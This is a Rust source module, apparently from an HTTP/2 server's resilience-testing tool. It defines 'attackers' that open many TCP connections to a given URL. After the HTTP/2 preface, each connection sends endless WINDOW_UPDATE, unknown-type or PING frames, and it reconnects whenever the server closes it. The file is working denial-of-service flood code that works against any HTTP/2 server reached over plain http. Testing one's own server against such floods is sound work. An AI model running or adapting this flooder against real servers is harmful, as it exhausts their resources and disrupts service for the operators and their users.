//! The attackers: connections on which frames are sent without end, and without a request.

use std::io::Read as _;

use anyhow::Context as _;
use clap::{Args, ValueEnum};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;

use crate::serve;

/// What every client sends first (RFC 9113, section 3.4), with an empty SETTINGS frame.
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
/// Frames of one write.
const AT_A_TIME: usize = 1_024;

/// The frames of a flood.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub(crate) enum Frames {
    /// The smallest increments of the window of the connection.
    WindowUpdate,
    /// Frames of a type that no standard has, without content.
    Unknown,
    /// PINGs, each of which the server answers.
    Ping,
}

impl Frames {
    pub(crate) const ALL: [Self; 3] = [Self::WindowUpdate, Self::Unknown, Self::Ping];

    /// As the command line has it.
    pub(crate) fn name(self) -> &'static str {
        match self {
            Self::WindowUpdate => "window-update",
            Self::Unknown => "unknown",
            Self::Ping => "ping",
        }
    }

    /// The bytes of one.
    fn frame(self) -> &'static [u8] {
        match self {
            // The window of the connection overflows after two thousand million of them.
            Self::WindowUpdate => b"\0\0\x04\x08\0\0\0\0\0\0\0\0\x01",
            Self::Unknown => b"\0\0\0\x77\0\0\0\0\0",
            Self::Ping => b"\0\0\x08\x06\0\0\0\0\x0012345678",
        }
    }
}

/// Whom to flood, and how.
#[derive(Debug, Args)]
pub(crate) struct AttackerOptions {
    #[arg(long)]
    url: String,
    #[arg(long, value_enum)]
    frames: Frames,
    #[arg(long)]
    connections: usize,
}

/// Floods until standard input ends.
pub(crate) fn attack(options: &AttackerOptions) -> anyhow::Result<()> {
    let address = options.url.strip_prefix("http://").context("no http:// in the URL")?.to_owned();
    let runtime = serve::runtime(1)?;
    for _ in 0..options.connections {
        runtime.spawn(flood(address.clone(), options.frames));
    }
    std::io::stdin().lock().read_to_end(&mut Vec::new())?;
    runtime.shutdown_background();
    Ok(())
}

/// One connection after the other, each until the server ends it.
async fn flood(address: String, frames: Frames) {
    let chunk = frames.frame().repeat(AT_A_TIME);
    loop {
        let Ok(stream) = TcpStream::connect(&address).await else { return };
        let (mut read, mut write) = stream.into_split();
        let drain = async {
            let mut bytes = vec![0; 16 * 1024];
            while matches!(read.read(&mut bytes).await, Ok(1..)) {}
        };
        let send = async {
            if write.write_all(PREFACE).await.is_ok() {
                while write.write_all(&chunk).await.is_ok() {}
            }
        };
        tokio::select! { () = drain => {}, () = send => {} }
    }
}
